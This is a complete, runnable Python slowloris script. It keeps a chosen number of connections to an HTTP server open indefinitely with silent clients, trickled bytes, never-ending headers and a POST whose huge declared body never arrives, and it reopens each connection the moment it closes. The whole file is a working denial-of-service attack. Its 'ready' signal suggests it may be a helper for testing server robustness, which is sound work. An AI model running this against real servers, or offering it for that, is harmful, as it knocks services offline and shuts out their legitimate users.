#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""
Clients of an HTTP server that want it to have no time for others:

    slowloris.py ADDRESS PORT COUNT

COUNT connections, each anew as soon as it ends: some say nothing, some a byte
now and then, some headers without an end, some a body that never comes.
"ready" is printed once all of them have begun.
"""
import select
import socket
import sys
import time

KINDS = [b"", b"GET / HTTP/1.1\r\nHost: x\r\nX: ",
         b"GET / HTTP/1.1\r\n",
         b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999\r\n\r\n"]


class Client:
    def __init__(self, address, number):
        self.kind = number % 4
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(address)
        self.begun = False

    def go(self):
        """False: the server has ended it."""
        try:
            if not self.begun:
                self.socket.send(KINDS[self.kind] or b"G")
                self.begun = True
            elif self.kind == 1:
                self.socket.send(b"a")
            elif self.kind == 2:
                self.socket.send(b"Y: " + b"y" * 1000 + b"\r\n")
            elif self.kind == 3:
                self.socket.send(b"z" * 1000)
            if select.select([self.socket], [], [], 0)[0]:
                return bool(self.socket.recv(65536))
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def main():
    address, count = (sys.argv[1], int(sys.argv[2])), int(sys.argv[3])
    clients = [Client(address, i) for i in range(count)]
    is_ready = False
    while True:
        for i, client in enumerate(clients):
            if not client.go():
                client.socket.close()
                clients[i] = Client(address, i)
        if not is_ready:
            print("ready", flush=True)
            is_ready = True
        time.sleep(0.05)


main()
